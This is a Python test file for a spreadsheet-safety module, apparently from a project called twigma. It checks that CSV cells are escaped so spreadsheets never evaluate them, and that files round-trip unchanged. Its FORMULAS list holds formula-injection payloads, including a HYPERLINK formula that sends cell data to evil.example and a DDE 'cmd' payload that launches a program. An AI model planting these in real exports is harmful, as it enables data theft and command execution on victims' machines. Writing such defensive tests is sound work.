"""No cell that we write is run by a spreadsheet, and our own files read back as they were."""

import ast
import csv
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as some

from twigma.core.safety import spreadsheet

ROOT = Path(__file__).resolve().parents[3]
RUN = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "＝",
    "＋",
    "－",
    "＠",
)  # first characters of what spreadsheets run
LINK = '=HYPERLINK("https://evil.example/?"&A1,"open; or not")'
FORMULAS = [
    LINK,
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "-",
    "a\n=1",
]
WRITERS = {"to_csv", "write_csv", "writer", "DictWriter"}


def cells(path: Path, delimiter: str = ",") -> list[list[str]]:
    """The cells as a program sees them that knows nothing of ours."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def is_run(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ").startswith(RUN)
    return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_text_and_read_back(formula: str, tmp_path: Path) -> None:
    spreadsheet.write_rows(
        tmp_path / "a.csv", ["head", formula], [["x", formula], [formula, None]]
    )
    assert not any(is_run(cell) for row in cells(tmp_path / "a.csv") for cell in row)
    assert spreadsheet.read_rows(tmp_path / "a.csv") == [
        ["head", formula],
        ["x", formula],
        [formula, ""],
    ]


@pytest.mark.parametrize("formula", FORMULAS)
def test_frames_and_tables_too(formula: str, tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"text": [formula, "plain"], formula: [-1.5, 2.0], "n": [-1, 1]}
    )
    spreadsheet.write_frame(tmp_path / "frame.csv", frame)
    spreadsheet.write_table(tmp_path / "table.csv", pa.Table.from_pandas(frame))
    for name in ("frame.csv", "table.csv"):
        assert not any(is_run(cell) for row in cells(tmp_path / name) for cell in row)
        assert spreadsheet.read_rows(tmp_path / name)[1:] == [
            [formula, "-1.5", "-1"],
            ["plain", "2.0", "1"],
        ]


def test_numbers_stay_numbers() -> None:
    for number in (-1.5, -1, 0, None):
        assert spreadsheet.inert(number) == number
    assert spreadsheet.inert("-1.5") == "'-1.5"  # a text of strangers


@given(some.text(alphabet=some.sampled_from("'=+-@\t\r\n \"a1;,＝\0"), max_size=6))
def test_what_is_written_reads_back_however_often(text: str) -> None:
    safe = spreadsheet.inert(text)
    assert spreadsheet.original(safe) == text
    assert spreadsheet.inert(spreadsheet.original(safe)) == safe
    assert not is_run(safe)


def test_files_are_the_same_however_often_they_are_written(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    spreadsheet.write_rows(
        path,
        ["value"],
        [[formula] for formula in [*FORMULAS, "'=1", "''=1", "'tis", "'"]],
    )
    before = path.read_bytes()
    for _ in range(3):
        head, *rows = spreadsheet.read_rows(path)
        spreadsheet.write_rows(path, head, rows)
        assert path.read_bytes() == before


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_spreadsheet_with_another_separator_finds_no_formula_inside_a_cell(
    separator: str, tmp_path: Path
) -> None:
    text = f"harmless{separator}=1+1"
    spreadsheet.write_rows(tmp_path / "a.csv", ["a"], [[text]])
    spreadsheet.write_frame(tmp_path / "b.csv", pd.DataFrame({"a": [text]}))
    for name in ("a.csv", "b.csv"):
        assert cells(tmp_path / name, separator) == [["a"], [text]]


def _modules() -> list[Path]:
    rooms = ("rehydrate", "builder", "analysis", "demo", "cli")
    return [
        *ROOT.glob("*.py"),
        *(path for room in rooms for path in (ROOT / room).rglob("*.py")),
    ]


@pytest.mark.parametrize(
    "path", _modules(), ids=lambda path: str(path.relative_to(ROOT))
)
def test_every_csv_is_written_here(path: Path) -> None:
    """No other module calls a writer of CSV, or opens a file of that name to write text into."""
    if path.name == "spreadsheet.py":
        return
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Attribute) and node.attr in WRITERS:
            owner = node.value.id if isinstance(node.value, ast.Name) else ""
            assert node.attr == "writer" and owner != "csv", (
                f"{path}:{node.lineno} writes a CSV: use spreadsheet.py"
            )
        if isinstance(node, ast.With):
            opened = " ".join(ast.unparse(item.context_expr) for item in node.items)
            assert not ("atomic" in opened and ".csv" in opened), (
                f"{path}:{node.lineno}: use spreadsheet.py"
            )
